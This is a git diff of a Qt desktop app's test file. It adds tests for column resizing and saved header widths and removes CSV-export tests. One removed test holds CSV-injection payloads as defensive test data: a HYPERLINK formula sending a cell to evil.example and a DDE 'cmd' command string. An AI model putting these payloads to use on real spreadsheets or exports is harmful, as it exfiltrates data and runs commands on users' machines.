@@ -4,15 +4,15 @@ disabled actions that say why."""
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 
 import pytest
-from PySide6.QtCore import Qt
+from PySide6.QtCore import QPoint, Qt
+from PySide6.QtTest import QTest
+from PySide6.QtWidgets import QHeaderView
 from pytestqt.exceptions import TimeoutError as QtTimeout
 
 from vendor_desktop.cache.core.apply import apply_changes
-from vendor_desktop.cache.core.changes import ChangeSet
 from vendor_desktop.cache.core.database import CacheDatabase
 from vendor_desktop.domain.roles import Role, permissions_for
 from vendor_desktop.sync.client import SignedInUser
@@ -250,9 +250,19 @@ def test_export_and_clear_say_why_they_are_disabled(view_as, qtbot):
     assert reader.export.toolTip() == "Read-only accounts cannot export orders."
 
 
+def drag_column_edge(header, column: int, by: int) -> None:
+    """The user drags the right edge of ``column``'s title by ``by`` px."""
+    edge = QPoint(header.sectionViewportPosition(column) + header.sectionSize(column) - 2, header.height() // 2)
+    left, none = Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier
+    QTest.mousePress(header.viewport(), left, none, edge)
+    QTest.mouseMove(header.viewport(), edge + QPoint(by, 0))
+    QTest.mouseRelease(header.viewport(), left, none, edge + QPoint(by, 0))
+
+
 def test_columns_fit_what_they_show_and_the_listing_takes_the_rest(view, qtbot):
     view.resize(1440, 700)
-    qtbot.waitUntil(lambda: view.table.rowAt(0) == 0)
+    fitter = view.columns.fitter
+    qtbot.waitUntil(lambda: view.table.rowAt(0) == 0 and fitter.idle and bool(fitter.contents))
     header, model = view.columns, view.vm.model
     listing = COLUMNS.index("listing")
     for column in range(len(COLUMNS)):
@@ -263,72 +273,37 @@ def test_columns_fit_what_they_show_and_the_listing_takes_the_rest(view, qtbot):
             needed, cell = view.table.sizeHintForIndex(index).width(), view.table.visualRect(index).width()
             assert needed <= cell, (COLUMNS[column], index.data())
         assert header.sectionSize(column) < header.sectionSize(listing)
-    # A text cut anyway (a user narrowed the column) is whole in its tooltip.
-    header.resizeSection(COLUMNS.index("buyer"), 30)
-    index = model.index(1, COLUMNS.index("buyer"))
-    assert index.data(Qt.ItemDataRole.ToolTipRole) == "杭州**科技有限公司"
-    view.search.setText("2026110100000042")  # a user's width is kept across filters
-    assert header.sectionSize(COLUMNS.index("buyer")) == 30
+    # A text cut anyway (the user narrowed the column) is whole in its tooltip.
+    buyer = COLUMNS.index("buyer")
+    drag_column_edge(header, buyer, 40 - header.sectionSize(buyer))
+    narrowed = header.sectionSize(buyer)
+    assert narrowed < view.table.sizeHintForIndex(model.index(1, buyer)).width()
+    assert model.index(1, buyer).data(Qt.ItemDataRole.ToolTipRole) == "杭州**科技有限公司"
+    view.search.setText("2026110100000042")  # the user's width is kept across filters
+    qtbot.waitUntil(lambda: fitter.idle)
+    assert header.sectionSize(buyer) == narrowed
 
 
-def test_export_writes_the_filtered_list_as_excel_friendly_csv(view, qtbot, tmp_path):
-    view.state.setCurrentIndex(view.state.findData("unpaid"))
-    path = tmp_path / "orders.csv"
-    with qtbot.waitSignal(view.vm.export_finished, timeout=10_000) as done:
-        view.vm.export_csv(str(path))
-    assert done.args == [str(path), 400]
-    raw = path.read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese correctly
-    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
-    assert rows[0][0] == "Order number"
-    assert len(rows) == 401
-    assert all(r[COLUMNS.index("state")] == "Unpaid" for r in rows[1:])
-    assert rows[1][COLUMNS.index("buyer")] == "杭州**科技有限公司"
-    assert rows[1][COLUMNS.index("amount")].replace(".", "").isdigit()  # plain number for sums
+def test_the_columns_the_user_sized_are_kept_for_the_next_run_and_old_fixed_widths_are_not(view, qtbot):
+    fitter = view.columns.fitter
+    qtbot.waitUntil(lambda: fitter.idle and bool(fitter.contents))
+    header = view.columns
+    number, buyer = COLUMNS.index("number"), COLUMNS.index("buyer")
+    fitted = header.sectionSize(buyer)
+    drag_column_edge(header, number, 60)
+    chosen = header.sectionSize(number)
+    saved = header.saveState()
 
+    header.resizeSection(buyer, 400)  # as an older version saved it: fixed widths, no "by hand"
+    old = QHeaderView(Qt.Orientation.Horizontal)
+    old.setModel(view.vm.model)
+    for column in range(header.count()):
+        old.resizeSection(column, header.sectionSize(column))
+    old_state = old.saveState()
 
-@pytest.mark.parametrize(
-    ("buyer", "listing", "shown_buyer", "shown_listing"),
-    [
-        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "云桌面", "'=HYPERLINK(", "云桌面"),
-        ("+86 138", "@SUM(1+1)", "'+86 138", "'@SUM(1+1)"),
-        ("-2+3", "\t=cmd|' /C calc'!A0", "'-2+3", "'\t=cmd"),
-        ("\r=1+1", "安全加固镜像 =1", "'\r=1+1", "安全加固镜像 =1"),
-    ],
-)
-def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
-    qtbot, tmp_path, runner, buyer, listing, shown_buyer, shown_listing
-):
-    """OWASP CSV injection: names typed by buyers and vendors never become formulas in Excel."""
-    db = CacheDatabase.open(tmp_path / "cache.sqlite3")
-    with db.session() as s, s.begin():
-        apply_changes(s, [make_order(1, buyer=buyer, listing=listing), make_order(2, amount_fen=-1250)])
-    vm = OrdersViewModel(db, runner)
-    path = tmp_path / "orders.csv"
-    with qtbot.waitSignal(vm.export_finished, timeout=10_000):
-        vm.export_csv(str(path))
-    db.close()
-    with path.open(encoding="utf-8-sig", newline="") as f:  # as Excel reads it: a CR in a cell stays
-        rows = {r[0]: r for r in csv.reader(f)}
-    cells = rows["2026110100000001"]
-    assert cells[COLUMNS.index("buyer")].startswith(shown_buyer)
-    assert cells[COLUMNS.index("listing")].startswith(shown_listing)
-    assert cells[COLUMNS.index("buyer")].lstrip("'") == buyer  # nothing else changes
-    # Money stays a number a spreadsheet can sum, a negative amount (a refund line) too.
-    assert rows["2026110100000002"][COLUMNS.index("amount")] == "-12.50"
-    assert cells[COLUMNS.index("amount")] == "100.00"
-
-
-def test_a_pull_refreshes_the_list_and_keeps_the_selection(view, orders_db, qtbot):
-    view.market.setCurrentIndex(view.market.findData("image"))
-    view.table.selectRow(0)
-    qtbot.waitUntil(lambda: view.vm.selected is not None)
-    changed = make_order(5000, state="refunded", market="image", amount_fen=999_999_00)
-    changed["version"] = 2
-    with orders_db.session() as s, s.begin():
-        apply_changes(s, [changed, make_order(6000, market="image")])
-    changes = ChangeSet()
-    changes.add("order", "o05000")
-    view.vm.on_data_changed(changes)
-    qtbot.waitUntil(lambda: view.vm.count == 2)
-    assert view.vm.selected is not None and view.vm.selected.state == "refunded"
+    header.restoreState(saved)
+    qtbot.waitUntil(lambda: fitter.idle)
+    assert (header.sectionSize(number), header.sectionSize(buyer)) == (chosen, fitted)
+    header.restoreState(old_state)
+    qtbot.waitUntil(lambda: fitter.idle and header.sectionSize(buyer) == fitted)
+    assert header.resizeContentsPrecision() == 0  # a fit reads the rows on screen, not 1,000
